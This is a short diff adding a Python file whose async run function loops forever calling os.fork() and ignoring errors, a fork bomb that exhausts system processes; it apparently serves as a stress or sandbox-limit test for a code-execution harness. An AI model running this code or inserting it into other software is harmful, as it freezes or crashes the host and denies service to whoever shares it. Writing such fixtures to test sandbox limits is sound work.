@@ -1,0 +1,10 @@
+"""Forks without end, until its time is over."""
+import os
+
+
+async def run(inputs):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
